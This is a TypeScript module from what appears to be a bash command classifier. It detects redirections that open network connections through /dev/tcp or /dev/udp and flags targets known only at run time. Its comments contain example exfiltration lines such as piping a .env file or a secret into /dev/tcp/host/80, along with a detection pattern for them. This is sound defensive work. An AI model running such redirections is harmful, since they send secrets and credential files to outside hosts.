import { childByField, type SyntaxNode } from './syntax';
import type { Condition } from './variables';
import type { Verdict } from './verdict';
import { short, wordOf, type Word } from './words';

/**
 * Redirections, for the walker (classify.ts): where a command's standard input comes from (a
 * here-document fed to `bash` is a script to follow), which files `>` writes, and which targets
 * bash turns into network connections (`> /dev/tcp/host/80`).
 */

/** Where the standard input of a command comes from, as far as shells reading a script care. */
export type Stdin =
  | { kind: 'none' | 'pipe' }
  | { kind: 'heredoc'; body: string; literal: boolean }
  | { kind: 'herestring'; word: Word }
  | { kind: 'file'; word: Word };

export const NO_STDIN: Stdin = { kind: 'none' };
/** bash opens a connection for a redirection to these. */
export const NETWORK_PATH = /^\/dev\/(tcp|udp)\//;
/** True when a path that starts with `s` could be a connection (`/dev/`, `/dev/tc`, `/dev/tcp/h/80`…). */
export const mayConnect = (s: string) =>
  NETWORK_PATH.test(s) || ['/dev/tcp/', '/dev/udp/'].some((p) => p.startsWith(s));

export function redirectOperator(r: SyntaxNode): string {
  const fd = r.children.find((c) => c.type === 'file_descriptor');
  const dest = childByField(r, 'destination');
  return r.text.slice((fd ? fd.end : r.start) - r.start, (dest ? dest.start : r.end) - r.start).trim();
}

/** The simple command a redirection after `body` applies to (bash binds it to the last one). */
export function lastCommand(node: SyntaxNode): SyntaxNode | undefined {
  if (node.type === 'command') return node;
  if (node.type === 'redirected_statement') {
    const body = childByField(node, 'body');
    return body && lastCommand(body);
  }
  if (node.type === 'pipeline' || node.type === 'negated_command') {
    const last = node.children.filter((c) => c.named && c.type !== 'comment').at(-1);
    return last && lastCommand(last);
  }
  return undefined;
}

export function heredoc(r: SyntaxNode): Stdin {
  const start = r.children.find((c) => c.type === 'heredoc_start')?.text ?? '';
  const body = r.children.find((c) => c.type === 'heredoc_body');
  const text = body?.text ?? '';
  // A quoted delimiter (`<<'EOF'`, `<<"EOF"`, `<<\EOF`) means the body is passed on as written.
  if (/['"\\]/.test(start)) return { kind: 'heredoc', body: text, literal: true };
  const dynamic = body?.children.some((c) => c.type !== 'heredoc_content') ?? false;
  return {
    kind: 'heredoc',
    body: text.replace(/\\([$`\\\n])/g, (_, c: string) => (c === '\n' ? '' : c)),
    literal: !dynamic,
  };
}

/** What a file redirection does besides reading. */
export interface RedirectEffect {
  /** bash opens a connection: recorded as a command of its own. */
  connects?: { argv: string[]; verdict: Verdict };
  /** The target is only known at run time and could be a connection. */
  problem?: string;
  /** …unless the variable it starts with never holds a connection's path (settled once the line is seen). */
  condition?: Condition;
  /** The file written. */
  write?: string;
}

/** What the file redirection `r` does: connects, writes a file, or may do either. */
export function fileRedirect(r: SyntaxNode): RedirectEffect {
  const dest = childByField(r, 'destination');
  if (!dest || dest.type === 'process_substitution') return {}; // `> >(cmd)` feeds a command, not a file
  const effect: RedirectEffect = {};
  const op = redirectOperator(r);
  const target = wordOf(dest);
  // What the target starts with for certain: the whole of a literal word, else the text before its
  // first expansion. `~+` and `~-` are $PWD and $OLDPWD, which a line can set to anything.
  const fixed = /^~[+-]/.test(target.value)
    ? ''
    : target.literal
      ? target.value
      : target.value.replace(/[$`][\s\S]*$/, '');
  if (NETWORK_PATH.test(fixed)) {
    // bash itself opens a connection for these paths: `echo secret > /dev/tcp/host/80` needs no curl.
    return {
      connects: {
        argv: [`${op}${target.value}`],
        verdict: { class: 'network', reason: `the redirection to ${short(target.value)} opens a network connection` },
      },
    };
  }
  if (fixed !== target.value && mayConnect(fixed)) {
    // `x=tcp; cat .env > /dev/$x/host/80`: the target could still turn out to be a connection.
    // When what follows the fixed start is a plain `$v`, v's values decide, once the whole line
    // is seen: a variable the line never sets holds the fixed environment's value (`> "$TMPDIR/x"`),
    // an integer cannot spell tcp, and literal values (`d=out; … > "$d/log"`) can be checked.
    const problem =
      `${op}${short(target.value)}: ` + 'the redirection target is only known at run time (it could be /dev/tcp/…)';
    const next = /^~[+-]/.test(target.value)
      ? null
      : /^\$(?:([A-Za-z_][A-Za-z0-9_]*)|\{([A-Za-z_][A-Za-z0-9_]*)\})/.exec(target.value.slice(fixed.length));
    if (next) effect.condition = { prefix: fixed, name: (next[1] ?? next[2])!, problem };
    else effect.problem = problem;
  }
  // `>&2` and `2>&1` duplicate a descriptor; `>&file` (no number) writes file, like `&>file`.
  const dup = (op === '>&' || op === '<&') && (op === '<&' || (target.literal && /^(\d+-?|-)$/.test(target.value)));
  if (!dup && ['>', '>>', '&>', '&>>', '>|', '<>', '>&'].includes(op)) effect.write = target.value;
  return effect;
}

/** A shell running a script file (`bash deploy.sh`, `bash < deploy.sh`): its commands cannot be seen. */
export function scriptFile(label: string, file: Word): Verdict {
  return {
    class: 'unknown',
    reason: `${label} runs the script file ${short(file.value)}, whose commands cannot be seen`,
  };
}

/** What a shell reading its script from standard input runs: a script to follow, or a verdict (and a problem). */
export function stdinScript(
  label: string,
  stdin: Stdin,
): { script: Word; label: string } | { verdict: Verdict; problem?: string } {
  switch (stdin.kind) {
    case 'heredoc':
      return { script: { value: stdin.body, literal: stdin.literal, pattern: '' }, label: `${label} <<EOF` };
    case 'herestring':
      return { script: stdin.word, label: `${label} <<<` };
    case 'file':
      return { verdict: scriptFile(label, stdin.word) };
    default: {
      const from = stdin.kind === 'pipe' ? 'a pipe' : 'standard input';
      return {
        verdict: { class: 'unknown', reason: `${label} runs a script it reads from ${from}` },
        problem: `${label} reads its script from ${from}, which cannot be seen`,
      };
    }
  }
}
